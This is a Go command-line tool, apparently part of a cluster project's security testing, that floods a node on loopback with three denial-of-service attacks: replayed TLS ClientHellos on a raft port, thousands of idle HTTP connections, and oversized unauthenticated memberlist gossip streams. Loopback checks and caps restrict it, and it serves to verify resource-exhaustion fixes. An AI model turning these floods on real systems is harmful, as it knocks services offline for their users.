// Command flood is the connection attacks of the issue "Nothing from
// outside can exhaust a node", from outside, for scripts/flood.sh to run
// against a real cluster while a legitimate caller decides:
//
//	hello  (finding 5) one recorded TLS ClientHello, replayed on new
//	       connections to a raft port at -rate connections a second from
//	       one source address: connect, send, drop.
//	idle   (finding 4) -conns connections to an HTTP port, spread over
//	       -from source addresses, each sending one unauthenticated
//	       GET /healthz and then holding the connection idle; one the node
//	       closes is opened again, as an attacker would.
//	gossip (finding 2) -conns connections to a gossip port, spread over
//	       -sources addresses, each announcing a 20 MiB encrypted message
//	       (memberlist reads a whole stream before it can check the key)
//	       and sending 2 MiB of it, without the key, then holding the
//	       connection; one the node closes is opened again.
//
// It prints what it managed (connections a second, connections held) as
// one JSON object. Loopback only; bounded by -duration.
//
//	go run ./scripts/flood -attack hello -addr 127.0.0.1:7071 -rate 4000 -duration 20s
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "flood:", err)
		os.Exit(1)
	}
}

// report is what an attack managed.
type report struct {
	Attack  string  `json:"attack"`
	Target  string  `json:"target"`
	Seconds float64 `json:"seconds"`
	// Dials counts connections opened, DialErrors those refused or failed.
	Dials      int64   `json:"dials"`
	DialErrors int64   `json:"dial_errors"`
	PerSecond  float64 `json:"dials_per_second"`
	// FirstDialError says why the first failed dial failed.
	FirstDialError string `json:"first_dial_error,omitempty"`
	// Held is, for idle, the most connections open at once; Closed how
	// many of them the node closed.
	Held   int64 `json:"most_held,omitempty"`
	Closed int64 `json:"closed_by_node,omitempty"`
}

func run(args []string, out io.Writer) error {
	fs := flag.NewFlagSet("flood", flag.ContinueOnError)
	attack := fs.String("attack", "hello", "hello (ClientHello replay on a raft port), idle (idle connections on an HTTP port) or gossip (oversized streams on a gossip port)")
	addr := fs.String("addr", "127.0.0.1:7071", "target host:port (loopback only)")
	from := fs.String("from", "127.0.0.50", "first source address; idle and gossip use -sources consecutive ones from it")
	sources := fs.Int("sources", 1, "idle, gossip: source addresses to spread the connections over")
	rate := fs.Int("rate", 4000, "hello: connections a second")
	conns := fs.Int("conns", 20000, "idle, gossip: connections to hold")
	duration := fs.Duration("duration", 20*time.Second, "how long the attack lasts (at most 5m)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	target, err := netip.ParseAddrPort(*addr)
	if err != nil || !target.Addr().IsLoopback() {
		return fmt.Errorf("-addr %q: a loopback host:port", *addr)
	}
	src, err := netip.ParseAddr(*from)
	if err != nil || !src.IsLoopback() {
		return fmt.Errorf("-from %q: a loopback address", *from)
	}
	if *duration <= 0 || *duration > 5*time.Minute || *rate < 1 || *rate > 100_000 || *conns < 1 || *conns > 100_000 || *sources < 1 || *sources > 200 {
		return errors.New("-duration must be in (0, 5m], -rate 1..100,000, -conns 1..100,000, -sources 1..200")
	}
	ctx, cancel := context.WithTimeout(context.Background(), *duration)
	defer cancel()
	var r report
	switch *attack {
	case "hello":
		r, err = hello(ctx, target.String(), src, *rate)
	case "idle":
		r, err = hold(ctx, target.String(), src, *sources, *conns, holdIdle)
	case "gossip":
		r, err = hold(ctx, target.String(), src, *sources, *conns, holdStream)
	default:
		return fmt.Errorf("-attack %q: hello, idle or gossip", *attack)
	}
	if err != nil {
		return err
	}
	r.Attack, r.Target = *attack, target.String()
	enc := json.NewEncoder(out)
	enc.SetIndent("", "  ")
	return enc.Encode(r)
}

// clientHello records the first flight of a TLS client: what a node's raft
// port sees from a peer dialling it, and what costs the node a handshake.
func clientHello() ([]byte, error) {
	c, s := net.Pipe()
	defer c.Close()
	defer s.Close()
	go func() {
		// The handshake never completes: nothing answers it.
		_ = tls.Client(c, &tls.Config{ServerName: "node1", MinVersion: tls.VersionTLS13}).Handshake()
	}()
	_ = s.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 16<<10)
	n, err := s.Read(buf)
	if err != nil {
		return nil, fmt.Errorf("recording a ClientHello: %w", err)
	}
	return buf[:n], nil
}

// hello replays one ClientHello on rate new connections a second from src.
func hello(ctx context.Context, target string, src netip.Addr, rate int) (report, error) {
	msg, err := clientHello()
	if err != nil {
		return report{}, err
	}
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: src.AsSlice()}, Timeout: time.Second}
	var dials atomic.Int64
	var failed dialFailures
	// Workers take tickets at the rate; each ticket is one connection. A
	// dial begun before the attack's end is let finish (within the
	// dialer's timeout), so each one is counted once, as a connection or
	// as the node's refusal, never lost between the two when the end cuts
	// a connect the node had already accepted.
	const workers = 256
	tickets := make(chan struct{}, workers)
	dialCtx := context.WithoutCancel(ctx)
	var wg sync.WaitGroup
	for range workers {
		wg.Go(func() {
			for range tickets {
				if ctx.Err() != nil {
					continue // tickets queued when the attack ended are dropped
				}
				c, err := d.DialContext(dialCtx, "tcp", target)
				if err != nil {
					failed.add(err)
					continue
				}
				dials.Add(1)
				_ = c.SetWriteDeadline(time.Now().Add(time.Second))
				_, _ = c.Write(msg)
				_ = c.Close()
			}
		})
	}
	start := time.Now()
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	sent := 0
loop:
	for {
		select {
		case <-ctx.Done():
			break loop
		case now := <-tick.C:
			due := int(now.Sub(start).Seconds() * float64(rate))
			for ; sent < due; sent++ {
				select {
				case tickets <- struct{}{}:
				default: // every worker busy: the ticket is lost, the rate falls short
				}
			}
		}
	}
	close(tickets)
	wg.Wait()
	secs := time.Since(start).Seconds()
	return failed.fill(report{Seconds: secs, Dials: dials.Load(), PerSecond: float64(dials.Load()) / secs}), nil
}

// hold keeps conns connections to target open, spread over sources
// addresses from src, each run by keep until the node closes it (then it
// is opened again) or ctx ends.
func hold(ctx context.Context, target string, src netip.Addr, sources, conns int, keep func(context.Context, net.Conn, *atomic.Int64)) (report, error) {
	var dials, held, most, closed atomic.Int64
	var failed dialFailures
	var wg sync.WaitGroup
	start := time.Now()
	for i := range conns {
		addr := src
		for range i % sources {
			addr = addr.Next()
		}
		if !addr.IsLoopback() {
			return report{}, fmt.Errorf("source %s is not a loopback address", addr)
		}
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: addr.AsSlice()}, Timeout: time.Second}
		wg.Go(func() {
			for ctx.Err() == nil {
				c, err := d.DialContext(ctx, "tcp", target)
				if err != nil {
					if !ended(ctx) {
						failed.add(err)
					}
					select {
					case <-ctx.Done():
					case <-time.After(100 * time.Millisecond):
					}
					continue
				}
				dials.Add(1)
				n := held.Add(1)
				for m := most.Load(); n > m && !most.CompareAndSwap(m, n); m = most.Load() {
				}
				keep(ctx, c, &closed)
				held.Add(-1)
			}
		})
	}
	wg.Wait()
	secs := time.Since(start).Seconds()
	return failed.fill(report{Seconds: secs, Dials: dials.Load(), PerSecond: float64(dials.Load()) / secs,
		Held: most.Load(), Closed: closed.Load()}), nil
}

// dialFailures counts failed dials and keeps the first one's error.
type dialFailures struct {
	n     atomic.Int64
	first atomic.Pointer[string]
}

func (f *dialFailures) add(err error) {
	f.n.Add(1)
	msg := err.Error()
	f.first.CompareAndSwap(nil, &msg)
}

func (f *dialFailures) fill(r report) report {
	r.DialErrors = f.n.Load()
	if p := f.first.Load(); p != nil {
		r.FirstDialError = *p
	}
	return r
}

// ended reports whether the attack is over. A dial's own deadline is the
// context's, and the poller may fire it a moment before the context
// counts itself done: such a dial was cut by the end, not refused.
func ended(ctx context.Context) bool {
	if ctx.Err() != nil {
		return true
	}
	dl, ok := ctx.Deadline()
	return ok && !time.Now().Before(dl)
}

// holdIdle sends one GET /healthz on c and then keeps c open without a
// word until ctx ends or the node closes it (counted in closed).
func holdIdle(ctx context.Context, c net.Conn, closed *atomic.Int64) {
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { _ = c.SetReadDeadline(time.Now()) })
	defer stop()
	if _, err := io.WriteString(c, "GET /healthz HTTP/1.1\r\nHost: quorate\r\n\r\n"); err != nil {
		closed.Add(1)
		return
	}
	// Read the answer and then wait: a read returns only when the node
	// closes the connection (or ctx ends).
	_, err := io.Copy(io.Discard, bufio.NewReader(c))
	if ctx.Err() == nil && (err == nil || !errors.Is(err, os.ErrDeadlineExceeded)) {
		closed.Add(1)
	}
}

// streamHeader starts a memberlist stream that announces an encrypted
// message of 20 MiB (its encryptMsg type and length): a node without
// bounds buffers all of it before it can check the key.
var streamHeader = binary.BigEndian.AppendUint32([]byte{10}, 20<<20)

// streamJunk is what each connection sends of the announced message.
var streamJunk = bytes.Repeat([]byte{0x5a}, 2<<20)

// holdStream announces a 20 MiB message on c, sends 2 MiB of it and then
// keeps c open until ctx ends or the node closes it (counted in closed).
func holdStream(ctx context.Context, c net.Conn, closed *atomic.Int64) {
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { _ = c.SetDeadline(time.Now()) })
	defer stop()
	_, err := c.Write(streamHeader)
	if err == nil {
		_, err = c.Write(streamJunk)
	}
	if err != nil {
		if ctx.Err() == nil {
			closed.Add(1)
		}
		return
	}
	_, err = io.Copy(io.Discard, c)
	if ctx.Err() == nil && (err == nil || !errors.Is(err, os.ErrDeadlineExceeded)) {
		closed.Add(1)
	}
}
